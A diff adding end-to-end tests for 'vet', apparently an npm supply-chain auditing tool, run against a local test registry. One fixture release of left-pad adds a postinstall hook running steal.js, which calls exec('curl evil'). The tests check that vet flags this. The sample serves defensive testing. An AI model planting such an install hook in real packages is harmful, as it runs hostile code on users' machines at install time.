@@ -1,0 +1,148 @@
+/**
+ * The auditor workflow end to end: the built `vet` against a real npm registry on 127.0.0.1
+ * that serves real packuments and tarballs. The registry URL reaches vet only through the
+ * project's .npmrc, as it would for a user.
+ */
+import { existsSync, readdirSync } from 'node:fs';
+import path from 'node:path';
+import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
+import { packageLock, runVet, tempProject, type TempProject } from './helpers/project.js';
+import { startRegistryServer, type Published, type RegistryServer } from './registry-server.js';
+
+let registry: RegistryServer;
+const pub: Record<string, Published> = {};
+
+beforeAll(async () => {
+  registry = await startRegistryServer();
+  pub['1.3.0'] = registry.publish({
+    name: 'left-pad', version: '1.3.0', npmUser: 'alice', time: '2024-01-10T10:00:00.000Z',
+    files: { 'index.js': 'module.exports = function pad(s, n) {\n  return String(s).padStart(n);\n};\n' },
+  });
+  pub['1.3.1'] = registry.publish({
+    name: 'left-pad', version: '1.3.1', npmUser: 'mallory', time: '2024-03-01T10:00:00.000Z',
+    scripts: { postinstall: 'node steal.js' },
+    files: {
+      'index.js': 'module.exports = function pad(s, n, c = " ") {\n  return String(s).padStart(n, c);\n};\n',
+      'steal.js': 'require("child_process").exec("curl evil")\n',
+    },
+  });
+  pub['1.4.0'] = registry.publish({
+    name: 'left-pad', version: '1.4.0', npmUser: 'alice', time: '2024-05-01T10:00:00.000Z',
+    files: { 'index.js': 'module.exports = (s, n) => String(s).padStart(n);\n' },
+  });
+});
+afterAll(() => registry.close());
+
+let project: TempProject | undefined;
+afterEach(() => project?.cleanup());
+
+function setup(version: string, integrity = pub[version]!.integrity): TempProject {
+  project = tempProject({
+    'package.json': '{"name":"demo","version":"1.0.0"}\n',
+    '.npmrc': `registry=${registry.url}\n`,
+    'package-lock.json': packageLock({ deps: { 'left-pad': '^1.3.0' }, packages: { 'node_modules/left-pad': { version, integrity } } }),
+  });
+  return project;
+}
+
+async function initAt(p: TempProject, base: string, target: string, integrity?: string): Promise<void> {
+  p.write('package-lock.json', packageLock({ deps: { 'left-pad': '^1.3.0' }, packages: { 'node_modules/left-pad': { version: base, integrity: pub[base]!.integrity } } }));
+  expect((await runVet(['init'], { cwd: p.dir })).code).toBe(0);
+  p.write('package-lock.json', packageLock({ deps: { 'left-pad': '^1.3.0' }, packages: { 'node_modules/left-pad': { version: target, integrity: integrity ?? pub[target]!.integrity } } }));
+}
+
+describe('inspect and diff', () => {
+  it('inspect fetches, verifies and unpacks the release, printing its path', async () => {
+    const p = setup('1.3.0');
+    await runVet(['init'], { cwd: p.dir });
+    const r = await runVet(['inspect', 'left-pad', '1.3.0'], { cwd: p.dir });
+    expect(r.stderr).toContain('When you have audited it: vet certify left-pad 1.3.0\n');
+    expect(r.code).toBe(0);
+    const dir = r.stdout.trim();
+    expect(readdirSync(dir).sort()).toEqual(['index.js', 'package.json']);
+    expect(dir.startsWith(path.join(p.dir, '.cache', 'vet'))).toBe(true);
+  });
+
+  it('diff shows the patch and the risk signals of the new release', async () => {
+    const p = setup('1.3.0');
+    await initAt(p, '1.3.0', '1.3.1');
+    const r = await runVet(['diff', 'left-pad', '1.3.0', '1.3.1'], { cwd: p.dir });
+    expect(r.code).toBe(0);
+    expect(r.stdout).toContain('+module.exports = function pad(s, n, c = " ") {');
+    expect(r.stdout).toContain('+require("child_process").exec("curl evil")');
+    expect(r.stderr).toMatch(/postinstall/);
+    expect(r.stderr).toMatch(/mallory/);
+    expect(r.stderr).toContain('3 files changed');
+  });
+
+  it('diff --stat prints a diffstat', async () => {
+    const p = setup('1.3.0');
+    await initAt(p, '1.3.0', '1.3.1');
+    const r = await runVet(['diff', 'left-pad', '1.3.0', '1.3.1', '--stat'], { cwd: p.dir });
+    expect(r.code).toBe(0);
+    expect(r.stdout).toMatch(/ steal\.js \| 1 \+\n/);
+    expect(r.stdout).toMatch(/3 files changed, \d+ insertions\(\+\), \d+ deletions\(-\)/);
+  });
+
+  it('a tarball that does not match the lockfile integrity is refused as a security error and not unpacked', async () => {
+    const p = setup('1.3.0', pub['1.3.1']!.integrity);
+    await runVet(['init'], { cwd: p.dir });
+    const r = await runVet(['inspect', 'left-pad', '1.3.0'], { cwd: p.dir });
+    expect(r.code).toBe(1);
+    expect(r.stderr).toMatch(/error \(security\).*integrity/i);
+    expect(r.stdout).toBe('');
+    const cache = path.join(p.dir, '.cache', 'vet');
+    const found = existsSync(cache) ? readdirSync(cache, { recursive: true }).map(String) : [];
+    expect(found.some((f) => f.endsWith('index.js'))).toBe(false);
+  });
+});
+
+describe('suggest and the check suggestion block', () => {
+  it('check (unlocked) recommends the delta from the vetted version; --locked does not fetch', async () => {
+    const p = setup('1.3.0');
+    await initAt(p, '1.3.0', '1.4.0');
+    const r = await runVet(['check'], { cwd: p.dir });
+    expect(r.code).toBe(1);
+    expect(r.stdout).toContain('recommended audits for safe-to-deploy:');
+    expect(r.stdout).toMatch(/vet diff left-pad 1\.3\.0 1\.4\.0 +alice +demo +2 files changed, 2 insertions\(\+\), 4 deletions\(-\)/);
+    expect(r.stdout).toContain('estimated audit backlog: 6 lines');
+    const before = registry.requests.length;
+    const locked = await runVet(['check', '--locked'], { cwd: p.dir });
+    expect(locked.code).toBe(1);
+    expect(locked.stdout).not.toContain('recommended audits');
+    expect(registry.requests.length).toBe(before);
+  });
+
+  it('suggest ignores suggestable exemptions and ranks by diff size', async () => {
+    const p = setup('1.4.0');
+    await runVet(['init'], { cwd: p.dir });
+    const r = await runVet(['suggest'], { cwd: p.dir });
+    expect(r.code).toBe(0);
+    expect(r.stdout).toMatch(/vet inspect left-pad 1\.4\.0/);
+    expect(r.stdout).toMatch(/estimated audit backlog: \d+ lines/);
+  });
+});
+
+describe('trust', () => {
+  it('trusting the publisher vets the versions they published, also under --locked', async () => {
+    const p = setup('1.3.0');
+    await initAt(p, '1.3.0', '1.4.0');
+    const t = await runVet(['trust', 'left-pad', 'alice', '--current-time', '2024-06-01T00:00:00Z'], { cwd: p.dir });
+    expect(t.stderr).toBe('Trusted alice for left-pad (safe-to-deploy) from 2024-01-10 until 2025-06-01.\n');
+    expect(t.code).toBe(0);
+    expect(p.read('supply-chain/audits.toml')).toContain('[[trusted.left-pad]]\ncriteria = "safe-to-deploy"\nuser-login = "alice"\nstart = "2024-01-10"\nend = "2025-06-01"\n');
+    expect(p.read('supply-chain/imports.lock')).toContain('[[publisher.left-pad]]\nversion = "1.4.0"\nwhen = "2024-05-01"\nuser-login = "alice"\n');
+    const check = await runVet(['check', '--locked', '--current-time', '2024-06-01T00:00:00Z'], { cwd: p.dir });
+    expect(check.stdout).toContain('Vetting Succeeded (1 fully audited)');
+    expect(check.code).toBe(0);
+  });
+
+  it('a version by another publisher is not covered', async () => {
+    const p = setup('1.3.0');
+    await initAt(p, '1.3.0', '1.3.1');
+    await runVet(['trust', 'left-pad', 'alice', '--current-time', '2024-06-01T00:00:00Z'], { cwd: p.dir });
+    const check = await runVet(['check', '--locked', '--current-time', '2024-06-01T00:00:00Z'], { cwd: p.dir });
+    expect(check.code).toBe(1);
+    expect(check.stdout).toContain('left-pad:1.3.1 missing ["safe-to-deploy"]');
+  });
+});
